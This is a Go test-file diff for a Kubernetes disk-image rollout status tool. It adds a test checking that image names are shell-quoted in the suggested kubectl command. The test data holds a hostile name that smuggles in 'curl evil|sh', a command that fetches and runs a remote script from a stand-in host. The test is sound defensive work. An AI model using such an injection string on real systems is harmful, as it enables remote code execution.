@@ -98,6 +98,14 @@ func TestScreens(t *testing.T) {
 	rendertest.Golden(t, "many-rollouts", now, status.New(well))
 }
 
+// A member names its images: what a person copies is one word of a shell.
+func TestNamesInCommandsAreQuoted(t *testing.T) {
+	hostile := member("lab", failing)
+	hostile.Status.Failing[0].Name = "x'; curl evil|sh; '"
+	st := status.New(status.Snapshot{Now: now, Members: []v1alpha1.MemberCluster{hostile}})
+	assert.Equal(t, `kubectl ot why image 'x'\''; curl evil|sh; '\''' -n vmdi-farm --cluster lab`, st.Failed[0].Command)
+}
+
 // Right after a publish the status is of the version before: it says nothing of this one.
 func TestStatusOfFormerSpecIsNotShown(t *testing.T) {
 	published := rollout("ubuntu", "2.1.0", v1alpha1.FleetDiskImageStatus{Phase: v1alpha1.RolloutSucceeded, Reason: v1alpha1.ReasonRolledOut, Clusters: v1alpha1.ClusterCounts{Total: 40, Succeeded: 40}})
